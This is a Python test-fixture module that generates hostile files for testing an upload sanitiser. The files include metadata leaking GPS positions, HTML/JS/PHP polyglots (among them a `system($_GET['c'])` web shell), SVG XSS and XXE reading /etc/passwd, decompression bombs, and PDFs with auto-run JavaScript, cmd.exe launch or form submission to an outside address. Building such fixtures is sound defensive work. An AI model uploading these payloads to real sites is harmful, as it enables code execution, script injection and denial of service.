"""Hostile files for the proof `upload`, drawn from a seed: positions, polyglots, bombs, what runs.

Each says what must become of it: `kept` where it is an honest picture or paper that must not be lost, `refused`
where it must not come in, `either` where nothing depends on it; whatever comes in must be served harmless.
"""

import io
import random
import struct
import zipfile
import zlib
from collections.abc import Callable, Iterator
from dataclasses import dataclass
from typing import Any

from PIL import Image
from PIL.PngImagePlugin import PngInfo

POSITION = "48.463217N 37.901143E"
GPS = {1: "N", 2: (48.0, 27.0, 47.5812), 3: "E", 4: (37.0, 54.0, 4.1148), 29: "2025:05:23"}
XMP = (
    '<?xpacket begin="" id="W5M0MpCehiHzreSzNTczkc9d"?><x:xmpmeta xmlns:x="adobe:ns:meta/"><rdf:RDF'
    ' xmlns:rdf="http://www.w3.org/1999/02/22-rdf-syntax-ns#"><rdf:Description'
    f' xmlns:exif="http://ns.adobe.com/exif/1.0/" exif:GPSLatitude="{POSITION}"/></rdf:RDF></x:xmpmeta>'
    '<?xpacket end="w"?>'
).encode()
SCRIPT = b"<script>alert(document.domain)</script>"


@dataclass(frozen=True)
class Hostile:
    name: str
    content: bytes
    must_be: str  # kept, refused or either


def hostile_files(count: int, seed: int = 23052025) -> Iterator[Hostile]:
    """So many files: every recipe once, then again with other chances, until there are enough."""
    chance = random.Random(seed)
    for number in range(count):
        recipe, must_be = RECIPES[number % len(RECIPES)]
        yield Hostile(f"{number:03} {recipe.__name__[1:].replace('_', ' ')}", recipe(chance), must_be)


def _picture(chance: random.Random, mode: str = "RGB") -> Image.Image:
    size = chance.randrange(8, 400), chance.randrange(8, 400)
    noise = Image.frombytes("L", (16, 16), chance.randbytes(256)).resize(size)
    return noise.convert(mode)


def _saved(picture: Image.Image, kind: str, **options: Any) -> bytes:
    out = io.BytesIO()
    picture.save(out, kind, **options)
    return out.getvalue()


def _exif(chance: random.Random) -> Image.Exif:
    exif = Image.Exif()
    exif[0x010E] = f"Taken at {POSITION}"
    exif[0x0110] = "Camera 3000"
    exif[0x0112] = chance.randrange(1, 9)
    exif[0x8825] = GPS
    return exif


def _jpeg_with_position(chance: random.Random) -> bytes:
    return _saved(_picture(chance), "JPEG", exif=_exif(chance))


def _jpeg_with_position_in_xmp_and_comment(chance: random.Random) -> bytes:
    return _saved(_picture(chance), "JPEG", xmp=XMP, comment=POSITION.encode())


def _jpeg_with_position_in_iptc(chance: random.Random) -> bytes:
    body = b"Photoshop 3.0\x008BIM\x04\x04\x00\x00" + struct.pack(">I", len(POSITION)) + POSITION.encode()
    segment = b"\xff\xed" + struct.pack(">H", len(body) + 2) + body
    plain = _saved(_picture(chance), "JPEG")
    return plain[:2] + segment + plain[2:]


def _jpeg_with_a_colour_profile_that_talks(chance: random.Random) -> bytes:
    return _saved(_picture(chance), "JPEG", icc_profile=(POSITION * 9).encode())


def _jpeg_with_broken_exif(chance: random.Random) -> bytes:
    return _saved(_picture(chance), "JPEG", exif=b"Exif\0\0MM\0*" + chance.randbytes(80) + POSITION.encode())


def _cmyk_jpeg(chance: random.Random) -> bytes:
    return _saved(_picture(chance, "CMYK"), "JPEG", exif=_exif(chance))


def _png_with_position(chance: random.Random) -> bytes:
    said = PngInfo()
    said.add_text("Location", POSITION)
    said.add_itxt("XML:com.adobe.xmp", XMP.decode())
    said.add_text("Comment", POSITION * 20, zip=True)
    return _saved(_picture(chance, "RGBA"), "PNG", pnginfo=said, exif=_exif(chance))


def _palette_png_with_position(chance: random.Random) -> bytes:
    said = PngInfo()
    said.add_text("Title", POSITION)
    return _saved(_picture(chance, "P"), "PNG", pnginfo=said, transparency=0)


def _webp_with_position(chance: random.Random) -> bytes:
    return _saved(_picture(chance), "WEBP", exif=_exif(chance), xmp=XMP)


def _gif_with_position(chance: random.Random) -> bytes:
    return _saved(_picture(chance, "P"), "GIF", comment=POSITION.encode())


def _moving_gif(chance: random.Random) -> bytes:
    more = [_picture(chance, "P") for _ in range(3)]
    return _saved(more[0], "GIF", save_all=True, append_images=more[1:], comment=SCRIPT)


def _jpeg_and_page(chance: random.Random) -> bytes:
    return _saved(_picture(chance), "JPEG", comment=SCRIPT) + b"<html>" + SCRIPT


def _jpeg_and_archive(chance: random.Random) -> bytes:
    return _saved(_picture(chance), "JPEG", exif=_exif(chance)) + _archive(
        {"META-INF/MANIFEST.MF": b"Main-Class: X"}
    )


def _gif_and_script(chance: random.Random) -> bytes:
    return b"GIF89a/*" + _saved(_picture(chance, "P"), "GIF")[8:] + b"*/=1;alert(1);//"


def _gif_and_page(chance: random.Random) -> bytes:
    return _saved(_picture(chance, "P"), "GIF") + b"<html><body>" + SCRIPT


def _gif_in_name_only(chance: random.Random) -> bytes:
    return b"GIF89a<html>" + SCRIPT + chance.randbytes(20).hex().encode()


def _png_and_drawing(chance: random.Random) -> bytes:
    return _saved(_picture(chance), "PNG") + _drawing(chance)


def _png_with_a_page_in_its_text(chance: random.Random) -> bytes:
    said = PngInfo()
    said.add_text("<html>", SCRIPT.decode() + POSITION)
    return _saved(_picture(chance), "PNG", pnginfo=said)


def _png_and_php(chance: random.Random) -> bytes:
    return _saved(_picture(chance), "PNG") + b"<?php system($_GET['c']); ?>"


def _webp_and_page(chance: random.Random) -> bytes:
    return _saved(_picture(chance), "WEBP") + SCRIPT


def _jpeg_and_pdf(chance: random.Random) -> bytes:
    return _saved(_picture(chance), "JPEG") + _pdf(b"/OpenAction << /S /JavaScript /JS (app.alert(1)) >>")


def _drawing(chance: random.Random) -> bytes:
    parts = [
        b"<svg xmlns='http://www.w3.org/2000/svg' onload='alert(1)'/>",
        b"<svg xmlns='http://www.w3.org/2000/svg'>" + SCRIPT + b"</svg>",
        b"<?xml version='1.0'?><!DOCTYPE svg [<!ENTITY x SYSTEM 'file:///etc/passwd'>]><svg>&x;</svg>",
        b"<svg><foreignObject><iframe src='javascript:alert(1)'/></foreignObject></svg>",
        b"<svg xmlns='http://www.w3.org/2000/svg'><image href='http://203.0.113.9/a.png'/></svg>",
        b"<svg><a href='javascript:alert(1)'>x</a><animate onbegin='alert(1)'/></svg>",
    ]
    starts = [b"", b"\xef\xbb\xbf", b"\n\n  ", b"<!-- a picture -->", b"text first\n" * 3]
    return chance.choice(starts) + chance.choice(parts) + b"<!--" + chance.randbytes(6).hex().encode() + b"-->"


def _drawing_in_utf_16(chance: random.Random) -> bytes:
    return _drawing(chance).decode("utf-8-sig").encode("utf-16")


def _squeezed_drawing(chance: random.Random) -> bytes:
    return zlib.compress(_drawing(chance), wbits=31)


def _page(chance: random.Random) -> bytes:
    starts = [b"", b"Dear all,\n\n", b"\xef\xbb\xbf", b"%", b"From: a\nMIME-Version: 1.0\n\n"]
    tags = [SCRIPT, b"<img src=x onerror=alert(1)>", b"<body onload=alert(1)>", b"<iframe src=//203.0.113.9>"]
    return chance.choice(starts) + b"<html>" + chance.choice(tags) + chance.randbytes(8).hex().encode()


def _chunk(kind: bytes, data: bytes) -> bytes:
    return struct.pack(">I", len(data)) + kind + data + struct.pack(">I", zlib.crc32(kind + data))


def _png(width: int, height: int, *chunks: bytes, depth: int = 1) -> bytes:
    head = _chunk(b"IHDR", struct.pack(">IIBBBBB", width, height, depth, 0, 0, 0, 0))
    return b"\x89PNG\r\n\x1a\n" + head + b"".join(chunks) + _chunk(b"IEND", b"")


def _bomb_of_pixels(chance: random.Random) -> bytes:
    side = chance.randrange(8_000, 20_000)
    row = b"\0" * (side // 8 + 2)
    return _png(side, side, _chunk(b"IDAT", zlib.compress(row * 3000)))


def _bomb_that_only_says_so(chance: random.Random) -> bytes:
    return _png(chance.randrange(10**6, 2**31 - 1), chance.randrange(10**6, 2**31 - 1))


def _bomb_of_text(chance: random.Random) -> bytes:
    squeezed = zlib.compress(bytes(chance.randrange(70, 90) * 2**20))
    return _png(8, 8, _chunk(b"zTXt", b"Comment\0\0" + squeezed), _chunk(b"IDAT", zlib.compress(b"\0\0" * 8)))


def _bomb_of_gif(chance: random.Random) -> bytes:
    return (
        b"GIF89a"
        + struct.pack("<HHBBB", 65535, chance.randrange(30_000, 65535), 0, 0, 0)
        + (b"," + struct.pack("<HHHHB", 0, 0, 65535, 65535, 0) + b"\x08\x01\0\0;")
    )


def _bomb_of_jpeg(chance: random.Random) -> bytes:
    plain = bytearray(_saved(_picture(chance), "JPEG"))
    frame = plain.index(b"\xff\xc0")
    plain[frame + 5 : frame + 9] = struct.pack(">HH", 65000, 65000)
    return bytes(plain)


def _archive(entries: dict[str, bytes], comment: bytes = b"") -> bytes:
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as archive:
        for name, content in entries.items():
            archive.writestr(name, content)
        archive.comment = comment
    return out.getvalue()


WORD = {"[Content_Types].xml": b"<Types/>", "word/document.xml": b"<w:document/>"}
EXCEL = {"[Content_Types].xml": b"<Types/>", "xl/workbook.xml": b"<workbook/>"}


def _bomb_of_office(chance: random.Random) -> bytes:
    return _archive(WORD | {"word/media/a.bmp": bytes(chance.randrange(210, 240) * 2**20)})


def _office_with_macros(chance: random.Random) -> bytes:
    part = chance.choice(["word/vbaProject.bin", "word/VBAPROJECT.BIN", "word/activeX/activeX1.xml"])
    return _archive(WORD | {part: chance.randbytes(40)})


def _office_with_a_program(chance: random.Random) -> bytes:
    part = chance.choice(["word/embeddings/oleObject1.bin", "xl/macrosheets/sheet1.xml", "xl/run.exe"])
    return _archive(chance.choice([WORD, EXCEL]) | {part: chance.randbytes(40)})


def _quiet_word(chance: random.Random) -> bytes:
    return _archive(WORD | {"word/media/image1.png": _saved(_picture(chance), "PNG")})


def _program_archive(chance: random.Random) -> bytes:
    return _archive({"META-INF/MANIFEST.MF": b"Main-Class: X", "X.class": chance.randbytes(40)})


def _pdf(root: bytes, *more: bytes) -> bytes:
    objects = [b"<< /Type /Catalog /Pages 2 0 R " + root + b" >>", b"<< /Type /Pages /Kids [] /Count 0 >>", *more]
    body = b"".join(b"%d 0 obj\n%s\nendobj\n" % (n, text) for n, text in enumerate(objects, 1))
    return b"%PDF-1.7\n" + body + b"trailer << /Root 1 0 R >>\n%%EOF\n"


def _quiet_pdf(chance: random.Random) -> bytes:
    page = zlib.compress(b"BT (Letter of " + chance.randbytes(4).hex().encode() + b") Tj ET")
    stream = b"<< /Filter /FlateDecode /Length %d >>\nstream\n%s\nendstream" % (len(page), page)
    return _pdf(b"/OpenAction [3 0 R /Fit]", stream)


def _active_pdf(chance: random.Random) -> bytes:
    return _pdf(
        chance.choice(
            [
                b"/OpenAction << /S /JavaScript /JS (app.alert(1)) >>",
                b"/AA << /O << /S /J#61vaScript /JS (app.alert(1)) >> >>",
                b"/OpenAction << /S /Launch /F (cmd.exe) >>",
                b"/Names << /EmbeddedFiles << /Names [(a) 3 0 R] >> >>",
                b"/Names << /J#61#76aScript 3 0 R >>",
                b"/AcroForm << /XFA [(a) 3 0 R] >>",
                b"/OpenAction << /S /SubmitForm /F (http://203.0.113.9/) >>",
                b"/OpenAction << /S /GoToE >>",
                b"/X << /Subtype /RichMedia >>",
            ]
        )
    )


def _pdf_with_a_hidden_script(chance: random.Random) -> bytes:
    hidden = zlib.compress(b"9 0 << /S /JavaScript /JS (app.alert(%d)) >>" % chance.randrange(99))
    head = b"<< /Type /Obj#53tm /N 1 /First 4 /Filter /FlateDecode /Length %d >>" % len(hidden)
    return _pdf(b"/OpenAction 9 0 R", head + b"\nstream\n" + hidden + b"\nendstream")


def _locked_pdf(chance: random.Random) -> bytes:
    return _pdf(b"") + b"trailer << /Encrypt 9 0 R /ID [(%d)] >>" % chance.randrange(99)


def _pdf_and_page(chance: random.Random) -> bytes:
    return _pdf(b"") + b"<html>" + SCRIPT + chance.randbytes(8).hex().encode()


def _page_and_pdf(chance: random.Random) -> bytes:
    return b"<html>" + SCRIPT + _quiet_pdf(chance)


def _bomb_of_pdf(chance: random.Random) -> bytes:
    squeezed = zlib.compress(bytes(chance.randrange(40, 60) * 2**20))
    head = b"<< /Type /ObjStm /Filter /FlateDecode /Length %d >>" % len(squeezed)
    return _pdf(b"", head + b"\nstream\n" + squeezed + b"\nendstream")


def _program(chance: random.Random) -> bytes:
    return chance.choice([b"MZ\x90\0", b"\x7fELF\2\1\1", b"#!/bin/sh\n", b"{\\rtf1\\object"]) + chance.randbytes(
        64
    )


def _scrambled_picture(chance: random.Random) -> bytes:
    kind = chance.choice(["JPEG", "PNG", "WEBP"])
    plain = bytearray(_saved(_picture(chance), kind))
    for _ in range(20):
        plain[chance.randrange(12, len(plain))] = chance.randrange(256)
    return bytes(plain)


def _letter(chance: random.Random) -> bytes:
    return f"Лист від {chance.randrange(1, 29)}.05.2025: усе добре, 2 < 3.".encode()


RECIPES: list[tuple[Callable[[random.Random], bytes], str]] = [
    (_jpeg_with_position, "kept"),
    (_drawing, "refused"),
    (_active_pdf, "refused"),
    (_bomb_of_pixels, "refused"),
    (_png_with_position, "kept"),
    (_gif_and_page, "kept"),
    (_page, "refused"),
    (_jpeg_and_archive, "kept"),
    (_pdf_with_a_hidden_script, "refused"),
    (_jpeg_with_position_in_xmp_and_comment, "kept"),
    (_webp_with_position, "kept"),
    (_gif_with_position, "kept"),
    (_jpeg_with_position_in_iptc, "kept"),
    (_bomb_of_text, "refused"),
    (_jpeg_with_a_colour_profile_that_talks, "kept"),
    (_jpeg_with_broken_exif, "kept"),
    (_cmyk_jpeg, "kept"),
    (_palette_png_with_position, "kept"),
    (_moving_gif, "kept"),
    (_jpeg_and_page, "kept"),
    (_gif_and_script, "either"),
    (_gif_in_name_only, "refused"),
    (_png_and_drawing, "kept"),
    (_png_with_a_page_in_its_text, "kept"),
    (_png_and_php, "kept"),
    (_webp_and_page, "kept"),
    (_jpeg_and_pdf, "kept"),
    (_drawing_in_utf_16, "refused"),
    (_squeezed_drawing, "refused"),
    (_bomb_that_only_says_so, "refused"),
    (_bomb_of_gif, "refused"),
    (_bomb_of_jpeg, "refused"),
    (_bomb_of_office, "refused"),
    (_office_with_macros, "refused"),
    (_office_with_a_program, "refused"),
    (_quiet_word, "kept"),
    (_program_archive, "refused"),
    (_quiet_pdf, "kept"),
    (_locked_pdf, "refused"),
    (_pdf_and_page, "either"),
    (_page_and_pdf, "refused"),
    (_bomb_of_pdf, "refused"),
    (_program, "refused"),
    (_scrambled_picture, "either"),
    (_letter, "kept"),
]
